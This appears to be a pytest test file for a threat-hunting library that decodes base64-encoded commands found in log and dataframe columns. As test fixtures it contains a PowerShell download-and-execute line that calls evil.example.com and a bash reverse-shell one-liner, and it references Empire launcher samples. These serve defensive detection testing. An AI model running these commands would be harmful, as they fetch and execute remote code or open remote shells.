"""Encoded text, real and hostile."""

import base64
import gzip
import json
import time

import duckdb
import pandas as pd
import polars as pl
import pytest

from huntkit.core.errors import UnknownColumn, UsageError
from huntkit.extract import decode

SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"


def b64(data: bytes | str, encoding: str = "utf-8") -> str:
    return base64.b64encode(data.encode(encoding) if isinstance(data, str) else data).decode()


def test_columns_and_places():
    run = b64(SCRIPT)
    found = decode(pl.DataFrame({"a": ["no", None, f"run {run} now"]}), "a")
    assert found.columns == [
        "Input", "SourceIndex", "input_column", "Depth", "Encoding", "Decoded", "start", "end",
        "Note", "Layer", "ParentLayer", "Size", "Announced", "limit", "file_name", "file_type",
        "md5", "sha1", "sha256", "steps",
    ]  # fmt: skip
    row = found.row(0, named=True)
    assert (row["SourceIndex"], row["Decoded"], row["Size"]) == (2, SCRIPT, len(SCRIPT))
    assert row["Input"][row["start"] : row["end"]] == run


def test_any_frame_keeps_its_kind_and_index():
    frame = pd.DataFrame({"cmd": ["x", b64(SCRIPT)], "_file": ["a", "b"]}, index=[10, 20])
    found = decode(frame, "cmd", keep=["_file"], include_input=False)
    assert found[["SourceIndex", "Decoded", "_file"]].to_numpy().tolist() == [[20, SCRIPT, "b"]]
    assert decode(b64(SCRIPT))["Decoded"].to_list() == [SCRIPT]
    with pytest.raises(UnknownColumn):
        decode(frame, "cmdd")
    with pytest.raises(UsageError):
        decode(frame, [])
    assert decode(pl.DataFrame({"a": []}), "a").height == 0


def test_all_text_columns_are_searched_when_none_is_named():
    frame = pl.DataFrame({"n": [1], "a": [b64(SCRIPT)], "_file": [b64(SCRIPT)]})
    assert decode(frame)["input_column"].to_list() == ["a"]


def test_arrow_tables_and_duckdb_relations_give_the_same_rows():
    frame = pl.DataFrame({"cmd": ["x", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}"]})
    wanted = decode(frame)
    assert wanted.height == 1
    assert pl.from_arrow(decode(frame.to_arrow())).equals(wanted)
    with duckdb.connect() as connection:
        relation = decode(connection.from_arrow(frame.to_arrow()))
        assert isinstance(relation, duckdb.DuckDBPyRelation)
        assert relation.pl().equals(wanted)
    assert pl.from_pandas(decode(frame.to_pandas())).rows() == wanted.rows()


PLAIN = "Some long identity of a mailbox, nothing else"


@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(PLAIN.encode()),
        PLAIN.encode("utf-16-le"),
        b"bash -i >& /dev/tcp/192.0.2.6/443 0>&1",
        b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40,
    ],
    ids=["compressed", "utf-16", "shell", "program"],
)
def test_content_can_announce_itself(data):
    found = decode(pl.DataFrame({"value": [f"value={b64(data)}"]}))
    assert found["Announced"].to_list() == [True]


@pytest.mark.parametrize(
    "unit", ["a", "A", "=", "+", "/", "-e ", "'+'", "QUJD", "base64,", "\r\n", "/base64/QUJD"]
)
def test_four_times_the_text_costs_about_four_times_the_time(unit):
    def cost(size: int) -> float:
        frame = pl.DataFrame({"text": [(unit * (size // len(unit) + 1))[:size]]})
        best = float("inf")
        for _ in range(2):
            start = time.process_time()
            decode(frame, "text")
            best = min(best, time.process_time() - start)
        return best

    small, large = cost(30_000), cost(120_000)
    assert large < 9 * max(small, 0.004)


@pytest.mark.data
def test_empire_launchers_come_out_as_readable_powershell(lines_of):
    lines = lines_of("atomic/windows/execution/host/empire_launcher_vbs.zip")
    commands = [command for line in lines if (command := json.loads(line).get("CommandLine"))]
    found = decode(pl.DataFrame({"CommandLine": commands}), "CommandLine")
    first = found.filter(pl.col("Depth") == 1)["Decoded"][0]
    assert first.lower().startswith("if($psversiontable.psversion.major -ge 3)")
    assert "http://10.10.10.5" in found.filter(pl.col("Depth") == 2)["Decoded"].to_list()


@pytest.mark.data
@pytest.mark.parametrize("name", ["demo_exchange_data.csv", "mde_proc_cs1.csv"])
def test_base64_that_software_wrote_is_no_announced_command(shared_data, name):
    found = decode(pl.read_csv(shared_data / "logs" / name, infer_schema=False))
    assert found.height > 0
    assert not found["Announced"].any()


@pytest.mark.data
def test_plain_command_lines_give_no_false_layer(windows_events):
    """Figure: no false layer in 20,000 and more distinct texts: command lines, whole messages."""
    assert len(windows_events.texts) > 20_000
    found = decode(pl.DataFrame({"c": sorted(windows_events.texts)}), "c")
    announced = found["Input"].str.contains(r"(?i)-enc\s|frombase64string")
    assert found.filter(~announced)["Decoded"].to_list() == []
    assert found["Announced"].all()
    assert found["Note"].str.starts_with("binary").sum() == 0
